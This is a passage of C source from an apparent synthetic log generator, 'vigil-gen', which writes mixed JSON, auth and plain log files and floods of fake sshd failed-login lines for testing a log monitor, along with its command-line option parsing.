        struct tm tm;
        gmtime_r(&tt, &tm);
        char when[64], sec[32];
        unsigned r = rndn(100);
        FILE *to;
        int n;
        if (r < 45) {
            strftime(sec, sizeof(sec), "%Y-%m-%dT%H:%M:%S", &tm);
            snprintf(when, sizeof(when), "%s.%03uZ", sec, ms);
            n = mix_json(line, sizeof(line) - 1, when);
            to = app;
        } else if (r < 80) {
            strftime(when, sizeof(when), "%b %e %H:%M:%S", &tm);
            n = mix_auth(line, sizeof(line) - 1, when);
            to = au;
        } else {
            strftime(when, sizeof(when), "%Y-%m-%d %H:%M:%S", &tm);
            n = mix_plain(line, sizeof(line) - 1, when, ms);
            to = pl;
        }
        if (n < 0 || (size_t)n >= sizeof(line) - 1)
            n = (int)strlen(line);
        line[n++] = '\n';
        fwrite(line, 1, (size_t)n, mx);
        fwrite(line, 1, (size_t)n, to);
    }
    int rc = 0;
    FILE *all[] = { mx, app, au, pl };
    for (int k = 0; k < 4; k++)
        if (fclose(all[k]) != 0)
            rc = 1;
    return rc;
}

static int flood(const char *path, long lines, bool users)
{
    FILE *f = fopen(path, "w");
    if (!f) {
        fprintf(stderr, "vigil-gen: %s: %s\n", path, strerror(errno));
        return 1;
    }
    int64_t t = START_EPOCH;
    for (long i = 0; i < lines; i++) {
        char when[64];
        if (i % 50 == 0)
            t++;
        iso(when, sizeof(when), t, rndn(1000000));
        uint32_t ip = 0x0b000000u + (uint32_t)i * 7u;   /* distinct for 2^32/7 lines */
        if (users)
            fprintf(f, "%s " HOST " sshd[%u]: Failed password for invalid user u%08lx from 203.0.113.9 port %u ssh2\n",
                    when, 1000 + rndn(60000), i, 30000 + rndn(30000));
        else
            fprintf(f, "%s " HOST " sshd[%u]: Failed password for invalid user admin from %u.%u.%u.%u port %u ssh2\n",
                    when, 1000 + rndn(60000), ip >> 24, (ip >> 16) & 255, (ip >> 8) & 255, ip & 255,
                    30000 + rndn(30000));
    }
    return fclose(f) == 0 ? 0 : 1;
}

static void usage(void)
{
    fputs("usage: vigil-gen scenario DIR [--days N] [--seed N] [--no-intrusion] [--live SECONDS]\n"
          "                          [--scale K] [--from-day N] [--to-day N] [--rich]\n"
          "       vigil-gen bench DIR [--lines N] [--seed N]\n"
          "       vigil-gen mixed DIR [--lines N] [--seed N]\n"
          "       vigil-gen flood FILE [--lines N] [--kind ips|users]\n",
          stderr);
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        usage();
        return 2;
    }
    const char *mode = argv[1], *target = argv[2];
    int days = 8, from_day = 0, to_day = 1000;
    long lines = 1000000;
    bool intr = true, users = false;
    double live = 0;
    for (int i = 3; i < argc; i++) {
        const char *a = argv[i];
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (strcmp(a, "--no-intrusion") == 0) {
            intr = false;
            continue;
        }
        if (strcmp(a, "--rich") == 0) {
            rich = true;
            continue;
        }
        if (!v) {
            usage();
            return 2;
        }
        i++;
        if (strcmp(a, "--days") == 0)
            days = atoi(v);
        else if (strcmp(a, "--seed") == 0) {
            seed_arg = strtoull(v, NULL, 10);
            rng_state = seed_arg * 0x9e3779b97f4a7c15ull + 1;
        }
        else if (strcmp(a, "--scale") == 0)
            scale = atoi(v);
        else if (strcmp(a, "--from-day") == 0)
            from_day = atoi(v);
        else if (strcmp(a, "--to-day") == 0)
            to_day = atoi(v);
        else if (strcmp(a, "--live") == 0)
            live = atof(v);
        else if (strcmp(a, "--lines") == 0)
            lines = atol(v);
        else if (strcmp(a, "--kind") == 0)
            users = strcmp(v, "users") == 0;
        else {
            usage();
            return 2;
        }
    }
    if (days < 1 || days > 366 || lines < 0 || scale < 1 || scale > 1000 || from_day < 0 ||
        to_day <= from_day) {
        usage();
        return 2;
    }
    if (strcmp(mode, "scenario") == 0)
        return scenario(target, days, intr, live, from_day, to_day);
    if (strcmp(mode, "bench") == 0)
        return bench(target, lines);
    if (strcmp(mode, "mixed") == 0)
        return mixed(target, lines);
    if (strcmp(mode, "flood") == 0)
        return flood(target, lines, users);
    usage();
    return 2;
}
